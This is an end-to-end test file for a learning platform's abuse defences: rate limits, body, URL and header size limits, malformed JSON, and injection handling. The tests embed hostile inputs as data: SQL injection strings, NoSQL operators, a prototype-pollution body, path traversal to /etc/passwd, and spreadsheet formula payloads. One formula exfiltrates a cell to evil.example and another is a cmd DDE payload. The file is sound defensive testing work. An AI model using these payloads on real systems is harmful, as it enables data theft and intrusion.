import { randomUUID } from 'node:crypto';
import { existsSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import ExcelJS from 'exceljs';
import { Redis } from 'ioredis';
import request from 'supertest';
import { RequestRateLimiter } from '@hocba/auth';
import { binary, createCohort, createCourse, finishedJob, startAdminApp } from './support/admin';
import { BASIC, type TestApp } from './support/test-app';

/**
 * Issue 8: abuse refused cleanly. Request rates, sizes (body, URL, headers), malformed and hostile
 * input (SQL, JSON operators, path traversal in ids and file names, formulas in exports). Every
 * refusal is a 4xx that names the rule, never a 500, never a stack or SQL in the answer.
 * (Guessing passwords: test/login-throttle.e2e-spec.ts; a learner link after expiry: certificates.)
 */
/** What an answer must never show: a stack, a driver's error, SQL the server wrote. */
const LEAK = /at \w+ \(|node_modules|QueryFailedError|syntax error at or near|relation "|FROM app_user u|\$1/;
const XAPI = { authorization: BASIC, 'x-experience-api-version': '1.0.3' };

describe('abuse', () => {
  let t: TestApp;
  let admin: string;
  const as = (token: string) => ({ authorization: `Bearer ${token}` });
  const clean = (res: request.Response) => {
    expect(res.status).toBeGreaterThanOrEqual(400);
    expect(res.status).toBeLessThan(500);
    expect(res.text).not.toMatch(LEAK);
    return res;
  };

  /** A new course and a cohort of it in Hà Nội; the cohort's id. */
  const newCohort = async (): Promise<string> => {
    const course = `c${randomUUID().slice(0, 8)}`;
    await createCourse(t.url, admin, { code: course, activityId: `https://x.vn/${course}` });
    return createCohort(t.url, admin, { code: `${course}-1`, courseCode: course, province: 'Hà Nội' });
  };

  beforeAll(async () => {
    ({ t, admin } = await startAdminApp({ worker: true, env: { HOCBA_XAPI_BODY_LIMIT: String(64 * 1024) } }));
  });
  afterAll(() => t?.close());

  describe('request rates', () => {
    it('counts per minute window in Redis: the request past the limit gets the seconds to the next window', async () => {
      const redis = new Redis(process.env.REDIS_URL ?? 'redis://127.0.0.1:6379');
      try {
        const platform = 'Basic cGxhdGZvcm06c2VjcmV0';
        // The credentials the service knows; any other header is made up.
        const known = new Set([platform, 'Basic b3RoZXI6c2VjcmV0']);
        const limiter = new RequestRateLimiter(
          await ready(redis),
          {
            HOCBA_QUEUE_PREFIX: `test-rate-${randomUUID().slice(0, 8)}`,
            HOCBA_RATE_LIMIT_ADDRESS: 100,
            HOCBA_RATE_LIMIT_CLIENT: 3,
            HOCBA_RATE_LIMIT_PUBLIC: 2,
          },
          (authorization) => known.has(authorization),
        );
        const minute = Date.UTC(2026, 11, 2, 8, 0, 0);
        const at = minute + 45_000; // 15 s before the window ends
        for (let i = 0; i < 3; i++)
          expect(await limiter.check('10.0.0.1', platform, at)).toEqual({ limited: false });
        expect(await limiter.check('10.0.0.1', platform, at)).toEqual({
          limited: true,
          retryAfter: 15,
          counter: 'client',
        });
        // Other credentials from the same address, and the same ones in the next minute, pass.
        expect(await limiter.check('10.0.0.1', 'Basic b3RoZXI6c2VjcmV0', at)).toEqual({ limited: false });
        expect(await limiter.check('10.0.0.1', platform, minute + 60_000)).toEqual({ limited: false });
        // Without credentials: the public allowance of the address.
        expect(await limiter.check('10.0.0.2', undefined, at)).toEqual({ limited: false });
        expect(await limiter.check('10.0.0.2', undefined, at)).toEqual({ limited: false });
        expect(await limiter.check('10.0.0.2', undefined, at)).toMatchObject({
          limited: true,
          counter: 'public',
        });
        // Made-up credentials are no credentials: the same public allowance, spent already.
        expect(await limiter.check('10.0.0.2', 'Bearer x1', at)).toMatchObject({
          limited: true,
          counter: 'public',
        });
        expect(await limiter.check('10.0.0.2', 'Basic eDp5', at)).toMatchObject({ counter: 'public' });
        // Known ones from there count against themselves (this one's second request of three).
        expect(await limiter.check('10.0.0.2', 'Basic b3RoZXI6c2VjcmV0', at)).toEqual({ limited: false });
        // Redis gone: requests pass (refusing every platform would be worse).
        const down = new RequestRateLimiter(
          undefined,
          {
            HOCBA_QUEUE_PREFIX: 'x',
            HOCBA_RATE_LIMIT_ADDRESS: 1,
            HOCBA_RATE_LIMIT_CLIENT: 1,
            HOCBA_RATE_LIMIT_PUBLIC: 1,
          },
          () => false,
        );
        expect(await down.check('10.0.0.3', undefined, at)).toEqual({ limited: false });
      } finally {
        redis.disconnect();
      }
    });

    it('answers 429 with Retry-After past the public allowance, while credentials and /health still pass, and made-up credentials do not', async () => {
      // An app of its own, so the other tests here are not refused.
      const { t: limited, admin: token } = await startAdminApp({ env: { HOCBA_RATE_LIMIT_PUBLIC: '40' } });
      try {
        await allowanceSpent(limited.url, token);
      } finally {
        await limited.close();
      }
    });
  });

  describe('sizes', () => {
    it('refuses a JSON body over 1 MiB on /api, an xAPI body over its limit, a long URL, huge headers', async () => {
      const big = { code: 'x', title: 'y'.repeat(1024 * 1024 + 10) };
      const json = clean(await request(t.url).post('/api/v1/courses').set(as(admin)).send(big));
      expect(json.status).toBe(413);
      const xapi = clean(
        await request(t.url)
          .post('/xapi/statements')
          .set(XAPI)
          .send([
            {
              actor: { mbox: 'mailto:a@b.vn' },
              verb: { id: 'http://x.vn/v' },
              object: { id: 'http://x.vn/' + 'a'.repeat(70 * 1024) },
            },
          ]),
      );
      expect(xapi.status).toBe(413);
      const url = clean(
        await request(t.url)
          .get(`/api/v1/courses?q=${'a'.repeat(9000)}`)
          .set(as(admin)),
      );
      expect(url.status).toBe(414);
      expect(url.body).toMatchObject({ statusCode: 414, code: 'request.url_too_long' });
      expect(await rawStatus(t.url, '/api/v1/courses', { 'x-padding': 'a'.repeat(20 * 1024) })).toBe(431);
    });

    it('refuses malformed JSON, bad UTF-8 and absurd nesting with 400', async () => {
      const post = (body: Buffer | string) =>
        request(t.url)
          .post('/api/v1/courses')
          .set({ ...as(admin), 'content-type': 'application/json' })
          .send(body);
      expect(clean(await post('{"code": "x",')).body.message).toMatch(/not valid UTF-8 JSON/);
      expect(clean(await post(Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]))).status).toBe(
        400,
      );
      expect(clean(await post('['.repeat(20000) + ']'.repeat(20000))).status).toBe(400);
      expect(clean(await post(`{"code":${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}}`)).status).toBe(400);
      expect(clean(await post('"just a string"')).status).toBe(400);
      // The xAPI too: a statement whose extension nests without end.
      const deep = `{"actor":{"mbox":"mailto:a@b.vn"},"verb":{"id":"http://x.vn/v"},"object":{"id":"http://x.vn/o"},"context":{"extensions":{"http://x.vn/e":${'['.repeat(20000)}${']'.repeat(20000)}}}}`;
      const xapi = clean(
        await request(t.url)
          .post('/xapi/statements')
          .set({ ...XAPI, 'content-type': 'application/json' })
          .send(deep),
      );
      expect(xapi.status).toBe(400);
    });
  });

  describe('injection', () => {
    it('treats SQL in parameters as data', async () => {
      const attempts = [
        "' OR '1'='1",
        '1; DROP TABLE learner; --',
        "x' UNION SELECT password_hash FROM app_user --",
      ];
      for (const a of attempts) {
        clean(await request(t.url).get('/api/v1/reports/funnel').query({ province: a }).set(as(admin)));
        clean(await request(t.url).post('/api/v1/auth/login').send({ username: a, password: a }));
        clean(
          await request(t.url)
            .get(`/api/v1/cohorts/${encodeURIComponent(a)}`)
            .set(as(admin)),
        );
        const audit = await request(t.url)
          .get('/api/v1/audit-log')
          .query({ entity: a })
          .set(as(admin))
          .expect(200);
        expect(audit.body).toEqual([]);
        const statements = clean(await request(t.url).get('/xapi/statements').query({ verb: a }).set(XAPI));
        expect(statements.status).toBe(400);
      }
      // Still there, and the admin's hash never came back.
      await request(t.url).get('/api/v1/courses').set(as(admin)).expect(200);
    });

    it('refuses JSON operators and objects where text is expected, naming the field', async () => {
      const login = clean(
        await request(t.url)
          .post('/api/v1/auth/login')
          .send({ username: { $gt: '' }, password: { $ne: null } }),
      );
      expect(login.status).toBe(400);
      expect(JSON.stringify(login.body)).toMatch(/username/);
      const course = clean(
        await request(t.url)
          .post('/api/v1/courses')
          .set(as(admin))
          .send({
            code: { $regex: '.*' },
            title: 'x',
            activityId: 'https://x.vn/c',
            completion: { moveOn: 'Completed' },
          }),
      );
      expect(JSON.stringify(course.body)).toMatch(/code/);
      const extra = clean(
        await request(t.url)
          .post('/api/v1/auth/login')
          .send({ username: 'a', password: 'b', __proto__: { admin: true }, role: 'national-admin' }),
      );
      expect(JSON.stringify(extra.body)).toMatch(/role should not exist/);
      const statement = clean(
        await request(t.url)
          .post('/xapi/statements')
          .set(XAPI)
          .send({
            actor: { mbox: { $gt: '' } },
            verb: { id: 'http://x.vn/v' },
            object: { id: 'http://x.vn/o' },
          }),
      );
      expect(statement.status).toBe(400);
    });

    it('keeps path traversal in document ids, codes and file names inside the data', async () => {
      const agent = JSON.stringify({ mbox: 'mailto:traversal@x.vn' });
      const stateId = '../../../../etc/passwd';
      await request(t.url)
        .put('/xapi/activities/state')
        .query({ activityId: 'https://x.vn/a', agent, stateId })
        .set({ ...XAPI, 'content-type': 'text/plain' })
        .send('kept as data')
        .expect(204);
      const back = await request(t.url)
        .get('/xapi/activities/state')
        .query({ activityId: 'https://x.vn/a', agent, stateId })
        .set(XAPI)
        .expect(200);
      expect(back.text).toBe('kept as data');
      for (const path of [
        '/api/v1/certificates/..%2F..%2F..%2Fpackage.json/pdf',
        '/api/v1/report-packs/..%2F..%2F..%2Fpackage.json',
        '/api/v1/report-packs/....%2F%2Fpackage.json',
        '/l/..%2F..%2Fpackage.json/certificates/..%2F..%2Fpackage.json',
      ]) {
        const res = clean(await request(t.url).get(path).set(as(admin)));
        expect(res.text).not.toContain('"dependencies"');
      }
      // An uploaded file's name is only a label: nothing is written where it points.
      const cohort = await newCohort();
      const target = `/tmp/hocba-traversal-${randomUUID().slice(0, 8)}.csv`;
      const job = await request(t.url)
        .post(`/api/v1/cohorts/${cohort}/enrollments/import`)
        .set(as(admin))
        .attach(
          'file',
          Buffer.from('Họ và tên,Số CCCD\nNguyễn Văn Thử,001099000111\n'),
          `../../../..${target}`,
        )
        .expect(202);
      const done = await finishedJob(t.url, admin, job.body.jobId);
      expect(done.state).toBe('completed');
      expect(existsSync(target)).toBe(false);
    });

    it('neutralises formulas in exported cells (CSV and XLSX)', async () => {
      const cohort = await newCohort();
      const hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
        "+1+cmd|' /C calc'!A0",
        '-2+3',
        '@SUM(1,2)',
      ];
      await request(t.url)
        .post(`/api/v1/cohorts/${cohort}/enrollments`)
        .set(as(admin))
        .send({
          learners: hostile.map((fullName, i) => ({ fullName, nationalId: `00109900${String(2000 + i)}` })),
        })
        .expect(201);
      const csv = await request(t.url)
        .get('/api/v1/reports/funnel/learners')
        .query({ cohortId: cohort, format: 'csv' })
        .set(as(admin))
        .expect(200);
      const cells = csv.text.split(/[\r\n,]+/).map((c) => c.replace(/^"|"$/g, ''));
      for (const name of hostile) {
        expect(cells.some((c) => c.startsWith(name.slice(0, 1)) && c.includes(name.slice(1, 8)))).toBe(false);
        expect(csv.text).toContain(`'${name.slice(0, 8)}`.replace(/"/g, '""'));
      }
      const xlsx = await request(t.url)
        .get('/api/v1/reports/funnel/learners')
        .query({ cohortId: cohort, format: 'xlsx' })
        .set(as(admin))
        .buffer(true)
        .parse(binary)
        .expect(200);
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(xlsx.body as Buffer);
      const texts: { type: ExcelJS.ValueType; text: string }[] = [];
      book.worksheets[0].eachRow((row) =>
        row.eachCell((cell) => texts.push({ type: cell.type, text: cell.text })),
      );
      expect(texts.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
      for (const name of hostile) expect(texts.some((c) => c.text.includes(name.slice(1, 8)))).toBe(true);
    });
  });
});

/**
 * Spends the public allowance of 40 a minute: the next request gets 429 with Retry-After; verified
 * credentials and /health pass; made-up credentials count against the public allowance.
 */
async function allowanceSpent(url: string, token: string): Promise<void> {
  // The platform's credentials, checked once (while unknown, a public request): a credential since.
  await request(url).get('/xapi/statements').query({ limit: 1 }).set(XAPI).expect(200);
  const statuses: number[] = [];
  let refused: request.Response | undefined;
  // 40 a minute; a minute boundary inside the loop restarts the count, so allow for two windows.
  for (let i = 0; i < 81 && !refused; i++) {
    const res = await request(url).get('/api/v1/verify/HB0000000000000X');
    statuses.push(res.status);
    if (res.status === 429) refused = res;
  }
  expect(refused).toBeDefined();
  // The administrator's login and the platform's first request were public requests of the window.
  expect(statuses.filter((s) => s !== 429).length).toBeGreaterThanOrEqual(38);
  expect(Number(refused!.headers['retry-after'])).toBeGreaterThanOrEqual(1);
  expect(Number(refused!.headers['retry-after'])).toBeLessThanOrEqual(60);
  expect(refused!.body).toMatchObject({
    statusCode: 429,
    code: 'request.rate_limited',
    message: expect.stringMatching(/Too many requests \(public limit\)/),
  });
  await request(url).get('/health').expect(200);
  await request(url)
    .get('/api/v1/courses')
    .set({ authorization: `Bearer ${token}` })
    .expect(200);
  await request(url).get('/xapi/statements').query({ limit: 1 }).set(XAPI).expect(200);
  // An invented Authorization header per request: still the address's public allowance, spent
  // (within two windows, should a minute have turned since).
  const invented: number[] = [];
  for (let n = 0; n < 41 && !invented.includes(429); n++) {
    const headers = {
      authorization: n % 2 ? `Bearer x${n}` : `Basic ${Buffer.from(`k${n}:s`).toString('base64')}`,
    };
    const res = await request(url).get('/api/v1/verify/HB0000000000000X').set(headers);
    invented.push(res.status);
    if (res.status === 429)
      expect(res.body).toMatchObject({
        code: 'request.rate_limited',
        message: expect.stringMatching(/Too many requests \(public limit\)/),
      });
  }
  expect(invented).toContain(429);
  // A real token, from the same address, still has its own allowance.
  await request(url)
    .get('/api/v1/courses')
    .set({ authorization: `Bearer ${token}` })
    .expect(200);
}

async function ready(redis: Redis): Promise<Redis> {
  if (redis.status !== 'ready') await new Promise((resolve) => redis.once('ready', resolve));
  return redis;
}

/** A request Node's client sends as given (supertest would refuse nothing, but this keeps it plain). */
function rawStatus(base: string, path: string, headers: Record<string, string>): Promise<number> {
  return new Promise((resolve, reject) => {
    const req = httpRequest(`${base}${path}`, { headers }, (res) => {
      res.resume();
      resolve(res.statusCode ?? 0);
    });
    req.on('error', reject);
    req.end();
  });
}
